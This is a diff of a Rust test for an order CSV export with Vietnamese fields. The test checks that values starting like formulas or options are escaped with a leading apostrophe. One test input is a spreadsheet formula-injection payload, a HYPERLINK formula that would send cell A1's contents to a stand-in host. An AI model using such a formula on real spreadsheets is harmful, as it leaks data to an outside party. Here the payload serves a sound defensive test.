@@ -373,7 +373,7 @@ async fn orders_as_csv_open_in_excel_with_their_vietnamese_and_named_columns() {
             "--address",
             "Số 5, ngõ 12, Đống Đa, Hà Nội",
             "--note",
-            "Giao giờ hành chính",
+            "-Giao giờ hành chính",
             // A name a buyer (or a prank) could give, that Excel would run as a formula.
             "--name",
             "=HYPERLINK(\"http://x.example/?\"&A1,\"Lan\")",
@@ -400,7 +400,8 @@ async fn orders_as_csv_open_in_excel_with_their_vietnamese_and_named_columns() {
     assert_eq!(field("items"), "3 × AT01 Áo thun, cổ tròn (Trắng) 150.000đ");
     assert_eq!(field("total"), "450000");
     assert_eq!(field("cod_amount"), "450000");
-    assert_eq!(field("note"), "Giao giờ hành chính");
+    // Taken as the note though it starts like an option, and kept from reading as a formula.
+    assert_eq!(field("note"), "'-Giao giờ hành chính");
     assert_eq!(
         field("customer"),
         "'=HYPERLINK(\"http://x.example/?\"&A1,\"Lan\")",
